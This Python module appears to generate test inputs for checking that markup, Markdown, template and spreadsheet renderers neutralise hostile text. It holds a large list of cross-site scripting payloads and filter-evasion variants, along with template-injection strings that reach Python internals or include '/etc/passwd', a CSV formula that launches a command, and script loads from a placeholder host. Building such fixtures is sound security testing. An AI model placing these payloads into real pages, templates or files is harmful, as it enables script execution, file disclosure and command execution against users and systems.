"""Texts that try to become something else: markup, code, templates, formulas. Input for tests."""

from __future__ import annotations

import json
from functools import lru_cache
from pathlib import Path

LISTS = Path(__file__).parent / "lists"

#: What runs, if it runs at all.
RUN = ("alert(1)", "confirm`1`", "window.ran=1", "top['al'+'ert'](1)", "import('//e.org/x')")

#: Where `!` is replaced by each of RUN.
SHAPES = """\
<script>!</script>
<ScRiPt >!</sCrIpT >
<script src=//e.org/x.js></script>
</title><script>!</script>
</textarea><script>!</script>
</style></script><script>!</script>
--><script>!</script>
]]><script>!</script>
"><script>!</script>
'><script>!</script>
" autofocus onfocus=! x="
' onmouseover='!' x='
`onmouseover=!`
<img src=x onerror=!>
<img/src/onerror=!>
<img src="x` `<script>!</script>"` `>
<svg onload=!>
<svg><script>!</script></svg>
<svg><animate onbegin=! attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:!"><text x=9 y=9>x</text></a></svg>
<svg><foreignObject><body onload=!></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img src onerror=!>
<math href="javascript:!">x</math>
<iframe src="javascript:!"></iframe>
<iframe srcdoc="<script>!</script>"></iframe>
<object data="javascript:!"></object>
<embed src="javascript:!">
<details open ontoggle=!>x</details>
<video><source onerror=!></video>
<audio src=x onerror=!>
<body onload=!>
<input autofocus onfocus=!>
<select autofocus onfocus=!>
<marquee onstart=!>x</marquee>
<form action="javascript:!"><button>x</button></form>
<button formaction="javascript:!">x</button>
<a href="javascript:!">x</a>
<a href="java&#9;script:!">x</a>
<a href="&#x6A;avascript:!">x</a>
<a href=" javascript:!">x</a>
<base href="javascript:!//">
<link rel=stylesheet href="data:text/css,*{x:expression(!)}">
<meta http-equiv=refresh content="0;url=javascript:!">
<style>@import'javascript:!';</style>
<p style="background:url(javascript:!)">x</p>
<noscript><p title="</noscript><img src=x onerror=!>"></noscript>
<template><img src=x onerror=!></template>
<xmp><img src=x onerror=!></xmp>
<!--><img src=x onerror=!>-->
<?xml-stylesheet href="javascript:!"?>
<![CDATA[<script>!</script>]]>
[x](javascript:!)
[x](  javascript:!)
[x](java&#10;script:!)
[x](JaVaScRiPt:!)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:!)
[x](https://e.org" onmouseover="!)
[x](<https://e.org> "t" onmouseover=!)
[x](https://e.org 'x" onclick="!')
[x]: javascript:!
![x](javascript:!)
![x](x" onerror="!)
<javascript:!>
<https://e.org/"onmouseover=!>
[[lee-jae-myung|<img src=x onerror=!>]]
[[lee-jae-myung|x](javascript:!)]]
[@press, <img src=x onerror=!>]
{: onclick="!" }
# x {: onclick="!" }
x{: style="x" onmouseover=! }
{{ ! }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% raw %}!{% endraw %}
{% include '/etc/passwd' %}
{# ! #}
${!}
#{!}
<%= ! %>
`<script>!</script>`
~~~ onclick=!
--8<-- "/etc/passwd"
!!! note "<script>!</script>"
\\<script>!\\</script>
&lt;script&gt;!&lt;/script&gt;
&amp;lt;script&amp;gt;!
\\u003cscript\\u003e!\\u003c/script\\u003e
%3Cscript%3E!%3C/script%3E
{"@context":"</script><script>!</script>"}
";!;//
';!;//
*/!/*
`${!}`
=HYPERLINK("javascript:!","x")
@SUM(1)|!
+cmd|' /C calc'!A0
-2+3+cmd|!
#read("/etc/passwd")
#panic("!")
$ ! $
\\; BEGIN:VALARM \\n !
END:VEVENT \\, !
*<b onclick=!>*
**<b onclick=!>**
> <b onclick=!>
- <b onclick=!>
1. <b onclick=!>
| <b onclick=!> |
&colon; &#58; javascript&colon;!
a & b < c > d " e ' f !
<a href=https:e.org onclick=!>x
<b/onclick=!//
< script>!</ script>
<script/x>!</script
<<script>!//<</script>
<scr<script>ipt>!</scr</script>ipt>
""".splitlines()


@lru_cache(maxsize=1)
def own() -> tuple[str, ...]:
    """Our own: every shape with every thing to run."""
    return tuple(dict.fromkeys(shape.replace("!", run) for shape in SHAPES for run in RUN))


@lru_cache(maxsize=1)
def public() -> tuple[str, ...]:
    """Those of public lists that are about text of any kind."""
    return _listed("blns.json", "commonmark.json")


@lru_cache(maxsize=1)
def scripts() -> tuple[str, ...]:
    """Those of a public list of scripts in disguise."""
    return _listed("xss.json")


def _listed(*names: str) -> tuple[str, ...]:
    return tuple(
        text
        for name in names
        for text in json.loads((LISTS / name).read_text(encoding="utf-8"))
        if text.strip()
    )
